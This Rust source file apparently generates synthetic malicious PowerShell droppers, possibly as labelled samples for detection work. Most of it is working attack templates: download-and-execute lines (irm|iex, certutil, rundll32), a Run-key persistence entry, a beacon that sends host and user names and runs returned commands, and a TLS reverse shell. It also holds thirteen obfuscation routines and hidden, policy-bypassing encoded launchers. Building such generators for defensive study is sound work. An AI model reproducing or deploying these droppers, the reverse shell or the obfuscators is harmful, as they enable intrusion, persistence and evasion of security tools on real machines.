//! Droppers in PowerShell.

use crate::generator::{
    Dice, Truth, base64, codes, each, gzip, put, quoted, reversed, wide, xored,
};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".ps1", ".txt", ".zip", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    match dice.below(13) {
        0 => {
            let list = each(text, " ", |it| format!("{it:08b}"));
            format!("(-join ('{list}'.Split(' ') | % {{ [char][convert]::ToInt32($_, 2) }}))")
        }
        1 => {
            let table = dice.shuffled("abcdefghijklmnopqrstuvwxyz0123456789:/.-");
            let list: Vec<String> =
                text.chars().filter_map(|it| table.find(it)).map(|at| at.to_string()).collect();
            let _ = writeln!(before, "${name} = '{table}'");
            format!("(${name}[{}] -join '')", list.join(","))
        }
        2 => format!(
            "([System.Text.Encoding]::ASCII.GetString([byte[]]({})))",
            each(text, ",", |it| format!("0x{it:02X}"))
        ),
        3 => {
            let escaped = each(text, "", |it| format!("%{it:02x}"));
            if dice.chance(50) {
                format!("([uri]::UnescapeDataString('{escaped}'))")
            } else {
                format!("([System.Net.WebUtility]::UrlDecode('{escaped}'))")
            }
        }
        4 => {
            let shifted = each(text, "", |it| char::from(it + 1).to_string());
            format!(
                "([regex]::Replace('{shifted}', '.', {{ param($m) [string][char]([int][char]$m.Value - 1) }}))"
            )
        }
        5 => {
            let pieces = dice.pieces(text);
            format!("((@'\n{}\n'@ -split '\\r?\\n') -join '')", pieces.join("\n"))
        }
        6 => {
            let (head, tail) = text.split_at(text.len() / 2);
            let other = dice.name();
            let _ = writeln!(before, "${name}, ${other} = '{head}', '{tail}'");
            format!("(${name}, ${other} -join '')")
        }
        7 => {
            let words = each(text, "+", |it| {
                let part = it / 2;
                format!("[char]({part}+{})", it - part)
            });
            format!("({words})")
        }
        8 => {
            let _ = writeln!(
                before,
                "${name} = New-Object System.Collections.ArrayList\nforeach ($c in {}) {{ [void]${name}.Add([char]$c) }}\n${name}.Reverse()",
                codes(reversed(text).bytes(), ", ")
            );
            format!("([string]::Join('', ${name}.ToArray()))")
        }
        9 => {
            let _ = writeln!(
                before,
                "${name} = [PSCustomObject]@{{ {} }}",
                dice.pieces(text)
                    .iter()
                    .enumerate()
                    .map(|(at, piece)| format!("p{at} = '{piece}'"))
                    .collect::<Vec<_>>()
                    .join("; ")
            );
            format!(
                "((${name}.psobject.Properties | Select-Object -ExpandProperty Value) -join '')"
            )
        }
        10 => {
            let _ = writeln!(
                before,
                "$ms = [IO.MemoryStream]::new([Convert]::FromBase64String('{}'))\n$gz = [IO.Compression.GZipStream]::new($ms, [IO.Compression.CompressionMode]::Decompress)\n$out = [IO.MemoryStream]::new()\n$gz.CopyTo($out)\n${name} = [Text.Encoding]::UTF8.GetString($out.ToArray())",
                base64(&gzip(text.as_bytes()))
            );
            format!("${name}")
        }
        11 => {
            let key = dice.key();
            let _ = writeln!(
                before,
                "${name} = [Convert]::FromBase64String('{}')\nfor ($x = 0; $x -lt ${name}.Count; $x++) {{ ${name}[$x] = ${name}[$x] -bxor {key} }}",
                base64(&xored(text, key))
            );
            format!("([System.Text.Encoding]::UTF8.GetString(${name}))")
        }
        _ => {
            let words = quoted(&dice.pieces(text), '\'');
            let _ = writeln!(
                before,
                "${name} = [Collections.Generic.List[string]]::new()\n{}",
                words
                    .iter()
                    .map(|it| format!("${name}.Add({it})\n"))
                    .collect::<String>()
                    .trim_end()
            );
            format!("(${name} -join [string]::Empty)")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => format!(
            "Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop','-ep','bypass','-enc','{}'\n",
            base64(&wide(&text))
        ),
        1 => format!(
            "Invoke-Command -ScriptBlock ([ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(\"{}\"))))\n",
            base64(text.as_bytes())
        ),
        2 => format!(
            "function Main {{\n  [CmdletBinding()]\n  param()\n  begin {{ $ProgressPreference = 'SilentlyContinue' }}\n  process {{\n{text}\n  }}\n}}\nMain\n"
        ),
        3 => format!(
            "$z = '{}'\n$y = ''\nfor ($i = $z.Length - 1; $i -ge 0; $i--) {{ $y += $z[$i] }}\n.('ie' + 'x') ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($y)))\n",
            reversed(&base64(text.as_bytes()))
        ),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    if dice.chance(15) {
        let (host, port) = truth.endpoint(dice);
        let hidden = hide(dice, &host, before);
        return put(
            "$@V@ = New-Object System.Net.Sockets.TcpClient\n$@V@.Connect(@U@, [int]'@P@')\n$s = New-Object System.Net.Security.SslStream($@V@.GetStream(), $false, { $true })\n$s.AuthenticateAsClient('localhost')\n$b = New-Object byte[] 4096\nwhile (($n = $s.Read($b, 0, 4096)) -gt 0) {\n  $o = [Text.Encoding]::ASCII.GetBytes((cmd /c ([Text.Encoding]::ASCII.GetString($b, 0, $n)) 2>&1 | Out-String))\n  $s.Write($o, 0, $o.Length)\n}\n",
            &[("U", &hidden), ("P", &port.to_string()), ("V", &var)],
        );
    }
    let url = truth.url(dice, FILES);
    let hidden = hide(dice, &url, before);
    let template = dice.pick(&[
        "irm @U@ | iex\n",
        "$r = [System.Net.HttpWebRequest]::CreateHttp(@U@)\n$r.UserAgent = 'curl/8.0'\n$in = $r.GetResponse().GetResponseStream()\n$f = [IO.File]::Create(\"$env:TEMP\\@F@.exe\")\n$in.CopyTo($f)\n$f.Close()\nStart-Process \"$env:TEMP\\@F@.exe\" -Verb RunAs\n",
        "$ie = New-Object -ComObject InternetExplorer.Application\n$ie.Visible = $false\n$ie.Navigate(@U@)\nwhile ($ie.Busy) { Start-Sleep -Milliseconds 50 }\niex $ie.Document.body.innerText\n",
        "$@V@ = @U@\ncurl.exe -s -k -o \"$env:TEMP\\@F@.zip\" $@V@\nExpand-Archive -Path \"$env:TEMP\\@F@.zip\" -DestinationPath \"$env:TEMP\\@F@\" -Force\nGet-ChildItem \"$env:TEMP\\@F@\" -Filter *.exe | ForEach-Object { Start-Process $_.FullName }\n",
        "Start-Process -FilePath 'certutil.exe' -ArgumentList ('-urlcache', '-split', '-f', @U@, \"$env:TEMP\\@F@.exe\") -NoNewWindow -Wait\n",
        "if (-not (Test-Path \"$env:ProgramData\\@F@\")) { New-Item -ItemType Directory -Path \"$env:ProgramData\\@F@\" -Force | Out-Null }\n$wc = New-Object System.Net.WebClient\nRegister-ObjectEvent -InputObject $wc -EventName DownloadFileCompleted -Action { Start-Process \"$env:ProgramData\\@F@\\a.exe\" } | Out-Null\n$wc.DownloadFileAsync([Uri](@U@), \"$env:ProgramData\\@F@\\a.exe\")\n",
        "$@V@ = @U@\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '@F@' -Value \"powershell -w hidden -c `\"iex(irm '$@V@')`\"\"\n",
        "$x = New-Object -ComObject WinHttp.WinHttpRequest.5.1\n$x.Open('GET', @U@, 0)\n$x.SetRequestHeader('Accept', '*/*')\n$x.Send()\n[IO.File]::WriteAllBytes(\"$env:TEMP\\@F@.dll\", $x.ResponseBody)\n& rundll32 \"$env:TEMP\\@F@.dll\",DllRegisterServer\n",
        "$p = @{ Method = 'Post'; Uri = @U@; Body = (@{ h = $env:COMPUTERNAME; u = $env:USERNAME } | ConvertTo-Json); ContentType = 'application/json' }\n$a = Invoke-RestMethod @p\nif ($a.cmd) { & ([scriptblock]::Create($a.cmd)) }\n",
        "function @V@([uri]$From) {\n  $c = New-Object System.Net.Http.HttpClient\n  $c.DefaultRequestHeaders.Add('User-Agent', 'x')\n  return $c.GetStringAsync($From).GetAwaiter().GetResult()\n}\n$t = @V@ -From (@U@)\n[ScriptBlock]::Create($t).Invoke()\n",
    ]);
    put(template, &[("U", &hidden), ("F", &file), ("V", &var)])
}
